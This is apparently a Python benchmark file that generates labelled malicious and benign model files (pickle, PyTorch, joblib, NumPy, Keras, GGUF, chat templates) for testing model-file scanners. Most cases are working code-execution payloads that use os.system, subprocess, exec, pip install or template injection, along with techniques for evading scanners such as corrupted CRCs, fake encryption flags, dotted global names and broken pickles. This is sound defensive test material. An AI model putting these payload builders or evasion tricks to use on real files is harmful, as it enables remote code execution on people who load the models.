"""Labelled model-file cases for bench/load_analysis_peers.py, written from hand-made bytes.

Every pickle here is assembled opcode by opcode (``_Pickle``); containers are written with the
standard library (zipfile, tarfile, gzip, bz2, lzma, zlib, struct, json) or by hand (7z, GGUF,
GGML); the HDF5 files (legacy Keras .h5, the weights inside a .keras) are written by h5py in a
separate interpreter (``H5_WRITER``), which only writes. Nothing is unpickled, loaded or run,
and no live object is pickled: ``pickle.dumps`` is
used only on plain ints, strings and dicts (the legacy torch header records). The Keras Lambda
bytecode is ``marshal`` of ``compile()`` output, which compiles and never runs.

Labels: ``malicious-high`` (loading runs a dangerous call), ``malicious`` (loading runs code
that is unknown, or the file hides what it unpacks to), ``benign``.
"""

from __future__ import annotations

import base64
import binascii
import bz2
import gzip
import io
import json
import lzma
import marshal
import pickle
import struct
import tarfile
import zipfile
import zlib
from dataclasses import dataclass
from typing import TYPE_CHECKING, Final, TypeAlias

if TYPE_CHECKING:
    from collections.abc import Callable

HIGH: Final = "malicious-high"
MALICIOUS: Final = "malicious"
BENIGN: Final = "benign"
LABELS: Final = (HIGH, MALICIOUS, BENIGN)

COMMAND: Final = "echo sovscan-bench"

# Sources, one constant per advisory or thread (cited by the cases below).
PICKLESCAN_EXT_ISSUE: Final = "https://github.com/mmaitre314/picklescan/issues/5"
CVE_2025_1716: Final = "https://nvd.nist.gov/vuln/detail/CVE-2025-1716"
CVE_2025_1889: Final = "https://nvd.nist.gov/vuln/detail/CVE-2025-1889"
CVE_2025_10155: Final = "https://nvd.nist.gov/vuln/detail/CVE-2025-10155"
CVE_2025_10156: Final = "https://nvd.nist.gov/vuln/detail/CVE-2025-10156"
CVE_2025_10157: Final = "https://nvd.nist.gov/vuln/detail/CVE-2025-10157"
JFROG_PICKLESCAN: Final = (
    "https://jfrog.com/blog/unveiling-3-zero-day-vulnerabilities-in-picklescan/"
)
PICKLESCAN_GLOBALS: Final = (
    "https://github.com/mmaitre314/picklescan/security/advisories/GHSA-655q-fx9r-782v"
)
PICKLESCAN_PT_NAMES: Final = (
    "https://github.com/mmaitre314/picklescan/security/advisories/GHSA-769v-p64c-89pr"
)
PICKLESCAN_ZIP_CRASH: Final = (
    "https://github.com/mmaitre314/picklescan/security/advisories/GHSA-7q5r-7gvp-wc82"
)
PICKLESCAN_ZIP_FLAG: Final = (
    "https://github.com/mmaitre314/picklescan/security/advisories/GHSA-w8jq-xcqf-f792"
)
PICKLESCAN_PARSE_FLAW: Final = "https://github.com/mmaitre314/picklescan/pull/46"
MODELSCAN_GAPS: Final = "https://github.com/protectai/modelscan/issues/263"
NULLIFAI: Final = "https://safeguard.sh/resources/blog/nullifai-broken-pickles-huggingface-attack"
TORCH_WEIGHTS_ONLY: Final = (
    "https://github.com/pytorch/pytorch/security/advisories/GHSA-53q9-r3pm-6pq6"
)
KERAS_LAMBDA: Final = "https://research.jfrog.com/model-threats/keras-lambda"
KERAS_FUNCTION: Final = "https://research.jfrog.com/model-threats/keras-custom"
CVE_2025_1550: Final = "https://aithreatalert.com/cve/CVE-2025-1550"
CVE_2025_9905: Final = "http://krarm.kinzhi.net/advisories/GHSA-36rr-ww3j-vrjv"
CVE_2025_9906: Final = (
    "https://radar.offseq.com/threat/cve-2025-9906-cwe-502-deserialization-of-untrusted-02b0f560"
)
CVE_2024_34359: Final = "https://cyberbytesdaily.io/the-sglang-gguf-ssti-rce"
CVE_2026_5760: Final = (
    "https://invaders.ie/resources/blog/vulnerability/"
    "sglang-cve-2026-5760-turns-malicious-gguf-models-into-rce"
)
CVE_2024_56326: Final = "https://www.cvelogic.com/cve/CVE-2024-56326"
NUMPY_PICKLE: Final = "https://nvd.nist.gov/vuln/detail/CVE-2019-6446"
JOBLIB_DOCS: Final = "https://joblib.readthedocs.io/en/stable/persistence.html"
SAFETENSORS_LOOKALIKE: Final = "https://github.com/huggingface/safetensors#format"
LOOKALIKE: Final = "look-alike written for this bench (no advisory)"


@dataclass(frozen=True, slots=True)
class Case:
    """One labelled model file."""

    id: str
    name: str
    data: bytes
    label: str
    source: str
    note: str = ""


# --- pickle assembly -------------------------------------------------------------------------


class _Pickle:
    """A pickle written opcode by opcode; ``proto`` picks the opcodes a real pickler would."""

    def __init__(self, proto: int) -> None:
        self.proto = proto
        self.out = bytearray(b"\x80" + bytes([proto]) if proto >= 2 else b"")

    def global_(self, module: str, name: str) -> _Pickle:
        if self.proto >= 4:
            self.string(module).string(name)
            self.out += b"\x93"  # STACK_GLOBAL
        else:
            self.out += b"c" + module.encode() + b"\n" + name.encode() + b"\n"
        return self

    def string(self, text: str) -> _Pickle:
        raw = text.encode()
        if self.proto == 0:
            self.out += b"V" + text.encode("raw_unicode_escape") + b"\n"
        elif self.proto >= 4 and len(raw) < 256:
            self.out += b"\x8c" + bytes([len(raw)]) + raw  # SHORT_BINUNICODE
        else:
            self.out += b"X" + struct.pack("<I", len(raw)) + raw  # BINUNICODE
        return self

    def int_(self, value: int) -> _Pickle:
        if self.proto == 0:
            self.out += b"I" + str(value).encode() + b"\n"
        elif 0 <= value < 256:
            self.out += b"K" + bytes([value])
        else:
            self.out += b"J" + struct.pack("<i", value)
        return self

    def op(self, raw: bytes) -> _Pickle:
        self.out += raw
        return self

    def call(self, module: str, name: str, *args: str) -> _Pickle:
        """``module.name(*args)``: GLOBAL, MARK, args, TUPLE, REDUCE."""
        self.global_(module, name).op(b"(")
        for arg in args:
            self.string(arg)
        return self.op(b"tR")

    def done(self) -> bytes:
        body = bytes(self.out) + b"."
        if self.proto >= 4:  # one FRAME around everything after PROTO, as picklers write it
            inner = body[2:]
            return body[:2] + b"\x95" + struct.pack("<Q", len(inner)) + inner
        return body


def call_pickle(module: str, name: str, *args: str, proto: int = 2) -> bytes:
    """A pickle whose load returns ``module.name(*args)``."""
    return _Pickle(proto).call(module, name, *args).done()


def system_pickle(proto: int = 2, module: str = "posix") -> bytes:
    return call_pickle(module, "system", COMMAND, proto=proto)


def getattr_chain_pickle() -> bytes:
    """builtins.getattr(importlib.import_module('os'), 'system')('echo …')."""
    p = _Pickle(2).global_("builtins", "getattr").op(b"(")
    p.call("importlib", "import_module", "os").string("system").op(b"tR")
    return p.op(b"(").string(COMMAND).op(b"tR").done()


def broken_after_payload() -> bytes:
    """nullifAI: the payload runs, then the stream breaks (no STOP, an invalid opcode)."""
    return bytes(_Pickle(2).call("posix", "system", COMMAND).op(b"0\xff\xfe garbage").out)


def state_dict_pickle(proto: int = 2) -> bytes:
    """A real-shaped ``torch.save(state_dict)`` data.pkl: OrderedDict of one rebuilt tensor."""
    p = _Pickle(proto).global_("collections", "OrderedDict").op(b")R").op(b"(")
    p.string("linear.weight")
    p.global_("torch._utils", "_rebuild_tensor_v2").op(b"(")
    p.op(b"(").string("storage").global_("torch", "FloatStorage").string("0").string("cpu")
    p.int_(4).op(b"tQ")  # BINPERSID: the storage is a persistent id, not an object
    p.int_(0).op(b"(").int_(2).int_(2).op(b"t").op(b"(").int_(2).int_(1).op(b"t")
    p.op(b"\x89")  # NEWFALSE: requires_grad
    p.global_("collections", "OrderedDict").op(b")R").op(b"tR")
    return p.op(b"u").done()


# --- containers --------------------------------------------------------------------------------


def zip_bytes(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def torch_zip(data_pkl: bytes, pickle_name: str = "archive/data.pkl") -> bytes:
    return zip_bytes(
        {
            pickle_name: data_pkl,
            "archive/byteorder": b"little",
            "archive/data/0": struct.pack("<4f", 0.1, 0.2, 0.3, 0.4),
            "archive/version": b"3\n",
        }
    )


def corrupt_crcs(archive: bytes) -> bytes:
    """Flip every CRC-32 in local and central headers (CVE-2025-10156: Python's zipfile
    raises on read, torch's reader does not check)."""
    out = bytearray(archive)
    for signature, offset in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        at = out.find(signature)
        while at != -1:
            crc = struct.unpack_from("<I", out, at + offset)[0]
            struct.pack_into("<I", out, at + offset, crc ^ 0xFFFFFFFF)
            at = out.find(signature, at + 4)
    return bytes(out)


def set_flag_bits(archive: bytes, bits: int) -> bytes:
    out = bytearray(archive)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = out.find(signature)
        while at != -1:
            flags = struct.unpack_from("<H", out, at + offset)[0]
            struct.pack_into("<H", out, at + offset, flags | bits)
            at = out.find(signature, at + 4)
    return bytes(out)


def legacy_torch(main_pickle: bytes) -> bytes:
    """torch's pre-1.6 (non-zip) format: magic, protocol, sys_info, the object, storage keys."""
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    version = pickle.dumps(1001, protocol=2)
    sys_info = pickle.dumps(
        {
            "protocol_version": 1001,
            "little_endian": True,
            "type_sizes": {"short": 2, "int": 4, "long": 4},
        },
        protocol=2,
    )
    keys = pickle.dumps([], protocol=2)
    return magic + version + sys_info + main_pickle + keys


def legacy_torch_tar(main_pickle: bytes) -> bytes:
    """torch's oldest format: a tar of sys_info, pickle, storages, tensors."""
    buffer = io.BytesIO()
    members = {
        "sys_info": pickle.dumps({"protocol_version": 1000, "little_endian": True}, protocol=2),
        "pickle": main_pickle,
        "storages": pickle.dumps(0, protocol=2),
        "tensors": pickle.dumps(0, protocol=2),
    }
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def npy(descr: str, shape: tuple[int, ...], payload: bytes) -> bytes:
    header = repr({"descr": descr, "fortran_order": False, "shape": shape}).encode()
    pad = 64 - (10 + len(header) + 1) % 64
    header += b" " * pad + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload


def _7z_number(value: int) -> bytes:
    if value < 0x80:
        return bytes([value])
    if value < 0x4000:
        return bytes([0x80 | (value >> 8), value & 0xFF])
    if value < 0x200000:
        return bytes([0xC0 | (value >> 16), value & 0xFF, (value >> 8) & 0xFF])
    return b"\xff" + struct.pack("<Q", value)


def seven_zip(name: str, data: bytes) -> bytes:
    """A 7z archive holding one file, stored with the Copy coder (no compression)."""
    n = _7z_number
    utf16 = name.encode("utf-16-le") + b"\x00\x00"
    header = (
        b"\x01\x04"  # Header, MainStreamsInfo
        + b"\x06"  # PackInfo
        + n(0)
        + n(1)
        + b"\x09"
        + n(len(data))
        + b"\x00"
        + b"\x07\x0b"  # UnPackInfo, Folder
        + n(1)
        + b"\x00"  # not external
        + n(1)  # one coder
        + b"\x01\x00"  # id size 1, simple coder; id 0x00 = Copy
        + b"\x0c"
        + n(len(data))
        + b"\x00"
        + b"\x08\x00"  # SubStreamsInfo (one stream), end
        + b"\x00"  # end of MainStreamsInfo
        + b"\x05"  # FilesInfo
        + n(1)
        + b"\x11"
        + n(len(utf16) + 1)
        + b"\x00"
        + utf16
        + b"\x00"
        + b"\x00"  # end of Header
    )
    start = struct.pack("<QQI", len(data), len(header), binascii.crc32(header))
    signature = b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", binascii.crc32(start)) + start
    return signature + data + header


def safetensors_0x280() -> bytes:
    """A valid safetensors file whose 8-byte header length is 0x280: it starts 0x80 0x02."""
    tensors = {"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}
    header = json.dumps(tensors).encode()
    header += b" " * (0x280 - len(header))
    return struct.pack("<Q", len(header)) + header + struct.pack("<2f", 1.0, 2.0)


def ggml_bin() -> bytes:
    """A legacy GGML (ggjt v3) .bin: magic, hyperparameters, a little vocab, zeros."""
    hparams = struct.pack("<7i", 32000, 64, 1, 2, 2, 8, 2)
    vocab = b"".join(struct.pack("<i", 1) + b"a" + struct.pack("<f", 0.0) for _ in range(4))
    return b"tjgg" + struct.pack("<I", 3) + hparams + vocab + bytes(256)


def gguf_with_template(template: str) -> bytes:
    """A GGUF v3 file with one metadata key, tokenizer.chat_template, and no tensors."""

    def gguf_str(text: str) -> bytes:
        raw = text.encode()
        return struct.pack("<Q", len(raw)) + raw

    kv = gguf_str("tokenizer.chat_template") + struct.pack("<I", 8) + gguf_str(template)
    return b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + kv


def keras_file(layers: list[dict[str, object]], weights_h5: bytes) -> bytes:
    config = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "layers": layers},
        "registered_name": None,
    }
    metadata = {"keras_version": "3.8.0", "date_saved": "2025-03-01@10:00:00"}
    return zip_bytes(
        {
            "metadata.json": json.dumps(metadata).encode(),
            "config.json": json.dumps(config).encode(),
            "model.weights.h5": weights_h5,
        }
    )


def _input_layer() -> dict[str, object]:
    return {
        "module": "keras.layers",
        "class_name": "InputLayer",
        "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input_layer"},
        "registered_name": None,
    }


def _dense_layer() -> dict[str, object]:
    return {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": {"name": "dense", "units": 2, "activation": "relu", "use_bias": True},
        "registered_name": None,
    }


def _lambda_bytecode() -> str:
    """Base64 of the marshalled code of a lambda that calls os.system (compiled, never run)."""
    code = compile(f"lambda x: __import__('os').system({COMMAND!r}) or x", "<lambda>", "eval")
    lambda_code = next(c for c in code.co_consts if hasattr(c, "co_code"))
    return base64.b64encode(marshal.dumps(lambda_code)).decode()


def _lambda_bytecode_layer() -> dict[str, object]:
    encoded = _lambda_bytecode()
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "function": {
                "class_name": "__lambda__",
                "config": {"code": encoded, "defaults": None, "closure": None},
            },
            "arguments": {},
        },
        "registered_name": None,
    }


def _lambda_function_layer(module: str, function: str) -> dict[str, object]:
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "function": {"class_name": "function", "config": function, "module": module},
            "arguments": {"command": COMMAND},
        },
        "registered_name": None,
    }


def _enable_unsafe_layer() -> dict[str, object]:
    return {
        "module": "keras.config",
        "class_name": "function",
        "config": "enable_unsafe_deserialization",
        "registered_name": "function",
    }


#: Writes an HDF5 file with h5py: argv[1] the path; argv[2] a legacy (tf.keras 2) model_config
#: JSON, or empty for the weights file of a Keras 3 ``.keras`` archive (groups, no tensors). Run
#: by a separate interpreter that has h5py; it only writes.
H5_WRITER: Final = """
import sys
import h5py
with h5py.File(sys.argv[1], "w") as f:
    if sys.argv[2]:
        f.attrs["keras_version"] = "2.15.0"
        f.attrs["backend"] = "tensorflow"
        f.attrs["model_config"] = sys.argv[2]
        f.create_group("model_weights").attrs["layer_names"] = [b"dense"]
    else:
        f.create_group("layers").create_group("dense").create_group("vars")
        f.create_group("optimizer").create_group("vars")
"""

#: Turns a model_config (or "" for Keras 3 weights) into HDF5 bytes; see ``H5_WRITER``.
H5Writer: TypeAlias = "Callable[[str], bytes]"


def legacy_keras_config(with_lambda: bool) -> str:
    """The model_config of a tf.keras 2 Sequential saved to .h5, with a Lambda or a Dense."""
    layer: dict[str, object]
    if with_lambda:
        layer = {
            "class_name": "Lambda",
            "config": {
                "name": "lambda",
                "function": [_lambda_bytecode(), None, None],
                "function_type": "lambda",
                "module": "__main__",
                "output_shape": None,
                "output_shape_type": "raw",
                "arguments": {},
            },
        }
    else:
        layer = {"class_name": "Dense", "config": {"name": "dense", "units": 2}}
    input_layer = {
        "class_name": "InputLayer",
        "config": {"batch_input_shape": [None, 4], "dtype": "float32", "name": "input_1"},
    }
    return json.dumps(
        {
            "class_name": "Sequential",
            "config": {"name": "sequential", "layers": [input_layer, layer]},
        }
    )


def tokenizer_config(template: str) -> bytes:
    return json.dumps(
        {"bos_token": "<s>", "eos_token": "</s>", "chat_template": template}, indent=2
    ).encode()


BENIGN_TEMPLATE: Final = (
    "{% for message in messages %}{{ '<|' + message['role'] + '|>\\n' + message['content'] "
    "+ eos_token }}{% endfor %}{% if add_generation_prompt %}{{ '<|assistant|>\\n' }}{% endif %}"
)
GLOBALS_TEMPLATE: Final = (
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('" + COMMAND + "').read() }}"
)
FORMAT_TEMPLATE: Final = (
    "{% set f = '{0.__class__.__base__.__subclasses__}'.format %}{{ messages | map(f) | list }}"
)


# --- the cases ------------------------------------------------------------------------------


def build_cases(write_h5: H5Writer) -> list[Case]:
    """Every case, in a stable order; ``write_h5`` writes the HDF5 files (see ``H5_WRITER``)."""
    weights_h5 = write_h5("")
    sd = state_dict_pickle()
    malicious_pt = torch_zip(system_pickle())
    cases = [
        # Plain pickles, every protocol, many names.
        Case("pkl-p0-os-system", "model.pkl", system_pickle(0, "os"), HIGH, PICKLESCAN_EXT_ISSUE),
        Case("bin-p1-posix-system", "pytorch_model.bin", system_pickle(1), HIGH, CVE_2025_10155),
        Case(
            "pt-p2-subprocess",
            "model.pt",
            call_pickle("subprocess", "check_output", COMMAND),
            HIGH,
            PICKLESCAN_EXT_ISSUE,
        ),
        Case(
            "ckpt-p3-exec",
            "model.ckpt",
            call_pickle("builtins", "exec", "print(1)", proto=3),
            HIGH,
            PICKLESCAN_EXT_ISSUE,
        ),
        Case(
            "nosuffix-p4-eval",
            "model",
            call_pickle("builtins", "eval", "1+1", proto=4),
            HIGH,
            CVE_2025_1889,
        ),
        Case(
            "pkl-p5-runpy",
            "model.pkl",
            call_pickle("runpy", "run_path", "payload.py", proto=5),
            HIGH,
            PICKLESCAN_GLOBALS,
        ),
        Case("h5-pickle", "model.h5", system_pickle(2), HIGH, CVE_2025_1889),
        Case("json-pickle", "config.json", system_pickle(4), HIGH, CVE_2025_1889),
        Case("safetensors-pickle", "model.safetensors", system_pickle(2), HIGH, CVE_2025_1889),
        Case("p-suffix-pickle", "config.p", system_pickle(0), HIGH, CVE_2025_1889),
        Case(
            "pip-main",
            "model.pkl",
            call_pickle("pip", "main", "install", "evil-package", proto=2),
            HIGH,
            CVE_2025_1716,
        ),
        Case(
            "pip-internal-main",
            "model.bin",
            call_pickle("pip._internal", "main", "install", proto=4),
            HIGH,
            CVE_2025_1716,
        ),
        Case(
            "webbrowser-open",
            "model.pkl",
            call_pickle("webbrowser", "open", "https://example.invalid"),
            HIGH,
            PICKLESCAN_GLOBALS,
        ),
        Case(
            "getattr-import-module", "model.pkl", getattr_chain_pickle(), HIGH, PICKLESCAN_GLOBALS
        ),
        Case(
            "importlib-import-module",
            "model.pkl",
            call_pickle("importlib", "import_module", "antigravity"),
            MALICIOUS,
            PICKLESCAN_GLOBALS,
            "imports a module chosen by the file",
        ),
        Case(
            "dotted-torch-os-system",
            "model.pt",
            call_pickle("torch", "os.system", COMMAND, proto=4),
            HIGH,
            MODELSCAN_GAPS,
            "STACK_GLOBAL with a dotted qualname resolves torch.os.system",
        ),
        Case(
            "dotted-posixpath-os-system",
            "model.pkl",
            call_pickle("posixpath", "os.system", COMMAND, proto=4),
            HIGH,
            MODELSCAN_GAPS,
        ),
        Case(
            "dunder-builtins-exec",
            "model.pkl",
            call_pickle("collections", "__builtins__.exec", "print(1)", proto=4),
            MALICIOUS,
            MODELSCAN_GAPS,
            "dunder path; resolvable only where __builtins__ is the module",
        ),
        Case(
            "dunder-subclasses",
            "model.pkl",
            call_pickle("builtins", "object.__subclasses__", proto=4),
            MALICIOUS,
            MODELSCAN_GAPS,
        ),
        Case(
            "submodule-asyncio",
            "model.pkl",
            call_pickle("asyncio.unix_events", "_UnixSubprocessTransport._start", COMMAND, proto=4),
            MALICIOUS,
            CVE_2025_10157,
            "a submodule of a blocked module (approximation of the JFrog report)",
        ),
        Case("broken-after-payload", "model.pkl", broken_after_payload(), HIGH, NULLIFAI),
        # PyTorch zip checkpoints.
        Case("torch-zip-data-pkl", "pytorch_model.bin", malicious_pt, HIGH, PICKLESCAN_PT_NAMES),
        Case(
            "torch-zip-other-pickle-name",
            "model.pt",
            torch_zip(system_pickle(), "archive/config.p"),
            HIGH,
            PICKLESCAN_PT_NAMES,
        ),
        Case(
            "torch-zip-broken-pickle", "model.pt", torch_zip(broken_after_payload()), HIGH, NULLIFAI
        ),
        Case("torch-zip-bad-crc", "model.pt", corrupt_crcs(malicious_pt), HIGH, CVE_2025_10156),
        Case(
            "torch-zip-flag-bits",
            "model.pt",
            set_flag_bits(malicious_pt, 0x1),
            HIGH,
            PICKLESCAN_ZIP_FLAG,
            "encrypted bit set on members that are not encrypted",
        ),
        Case(
            "torch-zip-prepended",
            "model.pt",
            b"\x00" * 512 + malicious_pt,
            MALICIOUS,
            PICKLESCAN_ZIP_CRASH,
            "bytes before the zip: torch.load refuses it (torch/serialization.py _is_zipfile "
            "compares the first four bytes), a loader using zipfile reads it from the end",
        ),
        Case(
            "zip-nested-torch",
            "checkpoints.zip",
            zip_bytes({"inner/model.pt": malicious_pt}),
            HIGH,
            PICKLESCAN_ZIP_CRASH,
            "a torch checkpoint inside a plain zip",
        ),
        Case("torch-legacy", "model.pth", legacy_torch(system_pickle()), HIGH, TORCH_WEIGHTS_ONLY),
        Case(
            "torch-legacy-tar",
            "model.tar",
            legacy_torch_tar(system_pickle()),
            HIGH,
            TORCH_WEIGHTS_ONLY,
        ),
        Case(
            "7z-torch",
            "model.pt",
            seven_zip("archive/data.pkl", broken_after_payload()),
            MALICIOUS,
            NULLIFAI,
            "what a 7z unpacks to is unknown to a static reader",
        ),
        # joblib compressed.
        Case("joblib-zlib", "model.joblib", zlib.compress(system_pickle()), HIGH, JOBLIB_DOCS),
        Case(
            "joblib-gzip",
            "model.joblib",
            gzip.compress(system_pickle(), mtime=0),
            HIGH,
            JOBLIB_DOCS,
        ),
        Case("joblib-bz2", "model.joblib", bz2.compress(system_pickle()), HIGH, JOBLIB_DOCS),
        Case("joblib-xz", "model.joblib", lzma.compress(system_pickle()), HIGH, JOBLIB_DOCS),
        # NumPy.
        Case(
            "npy-object-array", "array.npy", npy("|O", (1,), system_pickle(3)), HIGH, NUMPY_PICKLE
        ),
        Case(
            "npz-object-array",
            "arrays.npz",
            zip_bytes({"a.npy": npy("|O", (1,), system_pickle(3))}),
            HIGH,
            NUMPY_PICKLE,
        ),
        # Keras.
        Case(
            "keras-lambda-bytecode",
            "model.keras",
            keras_file([_input_layer(), _lambda_bytecode_layer()], weights_h5),
            MALICIOUS,
            KERAS_LAMBDA,
        ),
        Case(
            "keras-lambda-os-system",
            "model.keras",
            keras_file([_input_layer(), _lambda_function_layer("os", "system")], weights_h5),
            HIGH,
            KERAS_FUNCTION,
        ),
        Case(
            "keras-cve-2025-1550-subprocess",
            "model.keras",
            keras_file([_input_layer(), _lambda_function_layer("subprocess", "run")], weights_h5),
            HIGH,
            CVE_2025_1550,
        ),
        Case(
            "keras-enable-unsafe",
            "model.keras",
            keras_file(
                [_enable_unsafe_layer(), _input_layer(), _lambda_bytecode_layer()], weights_h5
            ),
            HIGH,
            CVE_2025_9906,
        ),
        Case(
            "keras-h5-lambda",
            "model.h5",
            write_h5(legacy_keras_config(with_lambda=True)),
            MALICIOUS,
            CVE_2025_9905,
            "legacy HDF5 Keras model with a bytecode Lambda; safe_mode is ignored for .h5",
        ),
        # Chat templates.
        Case(
            "chat-template-globals",
            "tokenizer_config.json",
            tokenizer_config(GLOBALS_TEMPLATE),
            HIGH,
            CVE_2024_34359,
        ),
        Case(
            "chat-template-format-escape",
            "tokenizer_config.json",
            tokenizer_config(FORMAT_TEMPLATE),
            MALICIOUS,
            CVE_2024_56326,
        ),
        Case(
            "gguf-template-globals",
            "model.gguf",
            gguf_with_template(GLOBALS_TEMPLATE),
            HIGH,
            CVE_2026_5760,
        ),
        # Benign look-alikes.
        Case("benign-torch-state-dict", "pytorch_model.bin", torch_zip(sd), BENIGN, LOOKALIKE),
        Case("benign-state-dict-pkl", "weights.pkl", sd, BENIGN, LOOKALIKE),
        Case("benign-state-dict-p4", "weights.pt", state_dict_pickle(4), BENIGN, LOOKALIKE),
        Case("benign-legacy-torch", "model.pth", legacy_torch(sd), BENIGN, LOOKALIKE),
        Case(
            "benign-safetensors-8002",
            "model.safetensors",
            safetensors_0x280(),
            BENIGN,
            SAFETENSORS_LOOKALIKE,
        ),
        Case("benign-ggml-bin", "ggml-model-q4_0.bin", ggml_bin(), BENIGN, LOOKALIKE),
        Case(
            "benign-chat-template",
            "tokenizer_config.json",
            tokenizer_config(BENIGN_TEMPLATE),
            BENIGN,
            LOOKALIKE,
        ),
        Case(
            "benign-gguf-template",
            "model.gguf",
            gguf_with_template(BENIGN_TEMPLATE),
            BENIGN,
            LOOKALIKE,
        ),
        Case(
            "benign-keras",
            "model.keras",
            keras_file([_input_layer(), _dense_layer()], weights_h5),
            BENIGN,
            LOOKALIKE,
        ),
        Case(
            "benign-keras-h5",
            "model.h5",
            write_h5(legacy_keras_config(with_lambda=False)),
            BENIGN,
            LOOKALIKE,
        ),
        Case(
            "benign-npy-float",
            "array.npy",
            npy("<f4", (2,), struct.pack("<2f", 1, 2)),
            BENIGN,
            LOOKALIKE,
        ),
        Case(
            "benign-joblib-list",
            "model.joblib",
            zlib.compress(pickle.dumps([1.0, 2.0])),
            BENIGN,
            LOOKALIKE,
        ),
    ]
    ids = [case.id for case in cases]
    if len(set(ids)) != len(ids):
        raise AssertionError("duplicate case ids")
    return cases
